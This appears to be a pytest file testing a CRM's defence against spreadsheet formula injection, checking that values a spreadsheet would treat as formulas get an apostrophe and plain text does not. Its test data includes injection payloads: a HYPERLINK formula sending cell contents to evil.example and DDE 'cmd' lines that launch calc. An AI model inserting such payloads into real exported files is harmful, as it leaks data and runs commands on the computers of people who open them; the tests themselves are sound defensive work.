"""What would be a formula never stands first in a cell; what is none stays as it is."""

import csv
import io
import itertools
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govcrm.domain.spreadsheets import is_formula, neutral, restored

FORMULAS = [
	"=1+1",
	'=HYPERLINK("https://evil.example?"&A1,"more")',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\tharmless after a tab",
	" =1+1",
	"\u00a0=1+1",
	"\u200b=1+1",
	"\ufeff=1+1",
	"\x01=1+1",
	'"=1+1',
	'" =1+1',
	"“=1+1",
	"＝1+1",
	"＋A1",
	"－A1",
	"＠A1",
	" '=1+1",
	"﹦A1",
	"+1-617-555-0100",
	"--5",
	"- call back",
	"-A1",
	"=5",
]
TEXTS = [
	"",
	"Pothole",
	"5",
	"-5",
	"+5",
	"-1,234.50",
	"-12 %",
	"+1 617 555 0100",
	"+1 (617) 555 0100",
	"+16175550100",
	"-",
	"------",
]
TEXTS += ["'=1+1", "a=1", "1-2", "(pending)", "#12", "é", "…", "a@example.org", "<b>", "/tmp", "|x"]
SIGNS = st.text(st.sampled_from("=+-@＝＋－＠﹦ \t\r\n\"'“\u00a0\u200b\ufeffaA1(|!"), max_size=12)


PARTS = [*"=+-@＝＋－＠﹦ \t\r\n\"'“\u00a0\u200b\ufeff\x01aA1(|!%.é", "", "🙂"]
SCRIPT = Path(__file__).resolve().parents[2] / "govcrm/public/js/neutral_csv.js"
RUNNER = """
const vm = require("vm"), fs = require("fs");
const world = vm.createContext({ frappe: { provide() {} }, govcrm: { exports: {} } });
vm.runInContext(fs.readFileSync(process.argv[1], "utf8"), world);
console.log(JSON.stringify(JSON.parse(fs.readFileSync(0)).map(world.govcrm.exports.is_formula)));
"""


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text):
	assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", TEXTS)
def test_a_plain_text_stays_as_it_is(text):
	assert neutral(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, None, True, b"=1"])
def test_what_is_no_text_stays_what_it_is(value):
	assert neutral(value) is value


@given(SIGNS | st.text())
def test_what_was_made_neutral_once_stays_so_and_is_read_back_as_it_was(text):
	cell = neutral(text)
	assert neutral(cell) == cell
	if not text.startswith("'"):
		assert restored(cell) == text


@given(SIGNS)
def test_no_cell_of_a_file_begins_with_a_sign_whatever_a_reader_drops(text):
	file = io.StringIO()
	csv.writer(file).writerow([neutral(text)])
	cell = next(csv.reader(io.StringIO(file.getvalue(), newline="")), [""])[0]
	left = cell.lstrip(' \t\r\n\u00a0\u200b\ufeff"“')
	assert not left.startswith(("=", "@", "＝", "＠", "﹦")), cell
	if left.startswith(("+", "-", "＋", "－")):
		assert not any(character.isalpha() or character in "|!=@" for character in left), cell


def test_the_browser_knows_the_same_formulas():
	node = shutil.which("node")
	if not node:
		pytest.skip("Node is not installed")
	given = [*FORMULAS, *TEXTS, *("".join(pair) for pair in itertools.product(PARTS, repeat=3))]
	done = subprocess.run(
		[node, "-e", RUNNER, str(SCRIPT)], input=json.dumps(given), text=True, capture_output=True, check=True
	)
	told = dict(zip(given, json.loads(done.stdout), strict=True))
	assert {text: is_formula(text) for text in given} == told


def test_what_begins_with_an_apostrophe_and_is_no_formula_is_read_back_whole():
	assert restored("'tis") == "'tis"
	assert restored("''=1") == "''=1"
	assert not is_formula("'=1")
